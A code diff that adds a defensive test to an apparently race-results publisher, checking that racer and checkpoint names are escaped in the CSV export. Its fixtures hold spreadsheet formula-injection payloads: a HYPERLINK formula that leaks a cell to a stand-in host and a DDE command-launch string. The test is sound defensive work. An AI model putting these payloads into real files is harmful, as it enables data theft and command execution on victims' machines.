@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from datetime import timedelta
 from pathlib import Path
 
@@ -109,3 +110,84 @@ def test_results_during_the_race_are_provisional(tmp_path: Path, dsn: str) -> No
         assert caching["results.csv"] != "public, max-age=86400"
     finally:
         pub.close()
+
+
+# What registrants have put in their names, and a GPX author in a checkpoint's.
+HOSTILE_RACERS = r"""
+    [[races.t.racers]]
+    id = "1001"
+    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Results")'
+
+    [[races.t.racers]]
+    id = "1002"
+    name = "+cmd|' /C calc'!A0"
+
+    [[races.t.racers]]
+    id = "2001"
+    name = "@SUM(1+1)"
+    kind = "vehicle"
+
+    [[races.t.racers]]
+    id = "3001"
+    name = "-2+3"
+
+    [[races.t.racers]]
+    id = "3002"
+    name = "Ann;=1+1"
+"""
+HOSTILE_CHECKPOINTS = r"""
+    [[races.t.checkpoints]]
+    name = "\t=1+1"
+    distance_m = 700
+
+    [[races.t.checkpoints]]
+    name = "\r@SUM(2)"
+    distance_m = 1500
+"""
+
+
+def test_results_csv_opens_every_name_as_text(tmp_path: Path, dsn: str) -> None:
+    """Names and checkpoint names that a spreadsheet would run as formulas
+    are written as text (a leading quote, quoted cells), however the
+    spreadsheet splits the line; the numbers written stay numbers."""
+    create_points_table(dsn)
+    setup = write_race(
+        tmp_path,
+        dsn,
+        starts_at=now_utc() - timedelta(minutes=25),
+        racers=HOSTILE_RACERS,
+        extra=HOSTILE_CHECKPOINTS,
+    )
+    insert_points(
+        dsn,
+        "live_points",
+        COLS,
+        [row for racer, v in SPEEDS.items() for row in fixes(setup, racer, v, 1300)],
+    )
+    cfg = config.load(str(setup.path))
+    pub = Publisher(cfg, cfg.race("t"))
+    try:
+        pub.cycle()
+    finally:
+        pub.close()
+    text = (setup.sink_dir / "results.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    names = {r[1]: r[2] for r in rows[1:]}
+    assert names == {
+        "1001": '\'=HYPERLINK("http://evil.example/?leak="&A1,"Results")',
+        "1002": "'+cmd|' /C calc'!A0",
+        "2001": "'@SUM(1+1)",
+        "3001": "'-2+3",
+        "3002": "Ann;'=1+1",
+    }
+    assert rows[0][-3:] == ["'\t'=1+1", "'\r'@SUM(2)", "Finish"]
+    # However a spreadsheet splits the line (',' here, ';' a tab or '|' in
+    # other locales, quotes or not), no piece of it starts a formula.
+    for piece in re.split(r"[,;\t|\r\n]", text):
+        assert not piece.lstrip(' "').startswith(("=", "+", "-", "@")), piece
+    # Numbers stay numbers: rank, finish_s and distance_m are written bare.
+    winner = text.split("\r\n")[1]  # (a header cell holds a lone CR)
+    assert winner.startswith('1,"1001",')
+    finish_s = json.loads((setup.sink_dir / "results.json").read_text())["racers"][0]["finish_s"]
+    assert f",{finish_s}," in winner
+    assert rows[1][6] == str(finish_s)
